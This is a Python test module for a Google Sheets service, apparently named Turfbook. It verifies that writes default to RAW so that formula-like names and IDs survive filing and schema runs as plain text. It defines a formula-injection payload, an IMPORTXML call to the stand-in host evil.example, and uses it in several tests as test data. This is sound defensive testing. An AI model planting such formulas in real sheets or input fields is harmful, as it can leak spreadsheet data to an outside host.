"""Every value Turfbook writes is RAW (a name like =IMPORTXML(...) stays a name): no USER_ENTERED in
service/ except the documented one (overdue writes its own ISO dates so Sheets stores real dates), and
formula-looking text survives a filing run and a schema run as text in the sheet."""

from __future__ import annotations

import re
from pathlib import Path

from tests.corpus.handlers import new_workbook
from tests.integration.filing_support import inbox, upload
from turfbook.jobs import filing
from turfbook.jobs.filing_verify import media_rows
from turfbook.schema import load_schema
from turfbook.schema.job import run_schema_job
from turfbook.workspace.sheets import CellWrite

SERVICE = Path(__file__).parents[2] / "service"
# file -> why USER_ENTERED is right there (the docstring must say so)
DOCUMENTED = {"service/jobs/overdue_apply.py": "Dates are written as ISO text with USER_ENTERED"}
FORMULA = '=IMPORTXML("http://evil.example/","//a")'


def user_entered_uses() -> dict[str, list[int]]:
    found: dict[str, list[int]] = {}
    for path in sorted(SERVICE.rglob("*.py")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if re.search(r"""["']USER_ENTERED["']""", code):
                found.setdefault(str(path.relative_to(SERVICE.parent)), []).append(number)
    return found


def test_user_entered_only_where_documented():
    uses = user_entered_uses()
    assert set(uses) <= set(DOCUMENTED), uses
    for name, why in DOCUMENTED.items():
        assert why in (SERVICE.parent / name).read_text(encoding="utf-8")


def test_writes_default_to_raw():
    source = (SERVICE / "workspace" / "sheets.py").read_text(encoding="utf-8")
    assert 'input_option: str = "RAW"' in source
    assert 'valueInputOption="RAW"' in source               # values.append
    assert not re.search(r"valueInputOption=(?!\"RAW\"|input_option)", source)


def test_the_emulator_tells_raw_from_user_entered(config):
    """The control: the same text written USER_ENTERED becomes a formula, so the checks below can fail."""
    config, ws = new_workbook(config)
    sheets = ws.sheets()
    sheets.write([CellWrite("Settings!D1", [["=1+1"]])], input_option="USER_ENTERED")
    sheets.write([CellWrite("Settings!E1", [["=1+1"]])])
    assert sheets.read(["Settings!D1:E1"], render="FORMATTED_VALUE")[0] == [["2", "=1+1"]]


def test_formula_names_survive_a_filing_run_as_text(config):
    config, ws = new_workbook(config)
    _, inbox_id = inbox(ws)
    upload(ws, inbox_id, FORMULA, b"", worksite="=1+1")
    upload(ws, inbox_id, "=1+1", b"\xff\xd8\xff" + bytes(100), worksite="@SUM(A1)")
    assert filing.run(ws).ok
    rows = media_rows(ws)
    assert sorted(r["original_name"] for r in rows) == sorted([FORMULA, "=1+1"])
    shown = ws.sheets().read(["Media"], render="FORMATTED_VALUE")[0]
    cells = {cell for row in shown for cell in row}
    assert FORMULA in cells and "=1+1" in cells and "2" not in cells


def test_formula_ids_reach_the_problems_tab_as_text(config):
    config, ws = new_workbook(config, {"People": [["ID", "Name"], ["=1+1", "Ana Ruiz"], [FORMULA, "Bea Soto"]]})
    sheets = ws.sheets()
    run_schema_job(sheets, load_schema(config.schema_dir / "workbook.yaml"), tz=config.organization.timezone)
    problems = sheets.read(["Problems"], render="FORMATTED_VALUE")[0]
    row_ids = {row[2] for row in problems[1:] if len(row) > 2}
    assert {"=1+1", FORMULA} <= row_ids, problems
    assert sheets.read(["People!A2:A3"], render="FORMATTED_VALUE")[0] == [["=1+1"], [FORMULA]]
